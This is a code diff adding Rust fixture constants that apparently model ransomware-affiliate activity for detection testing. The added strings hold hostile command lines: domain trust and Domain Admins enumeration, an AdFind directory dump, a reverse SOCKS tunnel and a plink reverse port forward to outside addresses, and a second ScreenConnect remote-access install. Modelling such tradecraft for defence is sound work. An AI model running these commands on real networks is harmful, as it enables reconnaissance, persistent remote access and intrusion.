@@ -279,3 +279,60 @@ pub(crate) const REMOTE_TOOL_SERVICE: &Program = &Program::of(
     SERVICES,
     ("AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH"),
 );
+
+/// What an affiliate runs to read the directory.
+pub(crate) const SWEEPING_THE_DIRECTORY: &[Program] = &[
+    Program::of(
+        r"C:\Windows\System32\nltest.exe",
+        "nltest /domain_trusts",
+        CMD,
+        (
+            "nltestrk.exe",
+            "Microsoft Logon Server Test Utility",
+            MICROSOFT,
+        ),
+    ),
+    Program::of(
+        r"C:\Windows\System32\net.exe",
+        r#"net group "Domain Admins" /domain"#,
+        CMD,
+        ("net.exe", "Net Command", MICROSOFT),
+    ),
+    COPYING_THE_DIRECTORY,
+];
+
+/// The directory being copied out with a tool that auditors use too.
+pub(crate) const COPYING_THE_DIRECTORY: Program = Program::of(
+    r"C:\Users\Public\AdFind.exe",
+    r#"AdFind.exe -f "objectcategory=computer" -csv"#,
+    CMD,
+    ("AdFind.exe", "AdFind", "www.joeware.net"),
+);
+
+/// A way back in from outside.
+pub(crate) const REVERSE_TUNNEL: &Program = &Program::of(
+    r"C:\ProgramData\c.exe",
+    "c.exe client 203.0.113.249:443 R:1080:socks",
+    CMD,
+    ("", "", ""),
+);
+
+/// A port forwarded back to where its user sits, as those who look after a supplier's machine do.
+pub(crate) const PORT_FORWARDED: &Program = &Program::of(
+    r"C:\Program Files\PuTTY\plink.exe",
+    "plink.exe -batch -R 8443:localhost:443 lab@192.0.2.9",
+    CMD,
+    ("Plink", "Command-line SSH client", "Simon Tatham"),
+);
+
+/// A second remote access tool being put on a server.
+pub(crate) const SECOND_TOOL: &Program = &Program::of(
+    r"C:\Program Files (x86)\ScreenConnect Client (5f1c29d0)\ScreenConnect.ClientService.exe",
+    r#""C:\Program Files (x86)\ScreenConnect Client (5f1c29d0)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest""#,
+    EXPLORER,
+    (
+        "ScreenConnect.ClientService.dll",
+        "ScreenConnect Client",
+        "ScreenConnect Software",
+    ),
+);
